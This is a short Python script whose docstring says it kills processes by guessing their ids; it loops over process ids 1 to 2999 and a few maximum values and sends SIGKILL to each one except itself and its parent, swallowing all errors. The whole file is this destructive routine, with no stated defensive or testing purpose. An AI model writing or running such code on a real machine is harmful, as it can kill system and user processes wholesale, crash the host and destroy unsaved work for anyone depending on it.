"""Kills processes by guessing their ids."""

import os, signal
own = {os.getpid(), os.getppid()}
for pid in list(range(1, 3000)) + [32767, 65535, 4194303]:
    if pid not in own:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
